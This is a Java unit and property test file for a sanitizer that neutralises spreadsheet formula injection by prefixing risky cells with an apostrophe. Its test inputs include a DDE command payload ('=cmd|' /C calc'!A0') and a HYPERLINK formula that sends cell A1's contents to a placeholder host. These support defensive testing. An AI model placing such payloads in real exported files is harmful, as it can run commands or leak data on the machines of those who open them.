@@ -1,0 +1,100 @@
+package jp.ward.guard.oversight;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.List;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Example;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+
+class SafeCellTest {
+
+  /** Written by hand and not with the pattern of the guard. */
+  private static final String FORMULA = "=+-@＝＋－＠";
+
+  private static final String IN_FRONT = " 　\u00a0\u200b\"'＂“";
+
+  @Example
+  void what_spreadsheets_run_gets_an_apostrophe() {
+    for (String cell :
+        List.of(
+            "=cmd|' /C calc'!A0",
+            "+1",
+            "-2+3",
+            "@SUM(1)",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            "\tx",
+            "\rx",
+            "\nx",
+            "＝１＋１",
+            "＋１",
+            "－１",
+            "＠ＳＵＭ",
+            " =1+1",
+            "　＝1+1",
+            "\"=1+1",
+            "'=1+1",
+            "\u200b=1+1",
+            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"ここ\")")) {
+      assertEquals("'" + cell, SafeCell.of(cell).replaceAll("(?<=[\\t\\r\\n])'", ""), cell);
+    }
+  }
+
+  @Example
+  void a_cell_of_other_separators_is_none_either() {
+    assertEquals("確かめた;'=1+1", SafeCell.of("確かめた;=1+1"));
+    assertEquals("a\n'=1\r\n'-2\t'@x", SafeCell.of("a\n=1\r\n-2\t@x"));
+  }
+
+  @Example
+  void other_text_stays_as_it_is() {
+    for (String cell :
+        List.of(
+            "",
+            "s-2001",
+            "R8-0012",
+            "止めた理由と職員の対応を確かめた。",
+            "a=b, -1",
+            "1+1",
+            "𠮷野",
+            "\"引用\"",
+            "2 行\n目")) {
+      assertEquals(cell, SafeCell.of(cell));
+    }
+    assertEquals("", SafeCell.of(null));
+  }
+
+  @Property(tries = 5000)
+  void no_cell_begins_like_a_formula(@ForAll("hostile") String cell) {
+    String safe = SafeCell.of(cell);
+    for (String part : safe.split("[;\\t\\r\\n]", -1)) {
+      assertFalse(!part.isEmpty() && !part.startsWith("'") && begins(part), part);
+    }
+    assertTrue(safe.isEmpty() || "\t\r\n".indexOf(safe.charAt(0)) < 0, safe);
+  }
+
+  private static boolean begins(String part) {
+    int first = 0;
+    while (first < part.length() && IN_FRONT.indexOf(part.charAt(first)) >= 0) {
+      first++;
+    }
+    return first < part.length() && FORMULA.indexOf(part.charAt(first)) >= 0;
+  }
+
+  @Property(tries = 5000)
+  void nothing_is_lost(@ForAll("hostile") String cell) {
+    assertEquals(cell.replace("'", ""), SafeCell.of(cell).replace("'", ""));
+  }
+
+  @Provide
+  Arbitrary<String> hostile() {
+    return Arbitraries.strings().withChars(FORMULA + IN_FRONT + ";,\t\r\nA1漢字").ofMaxLength(12);
+  }
+}
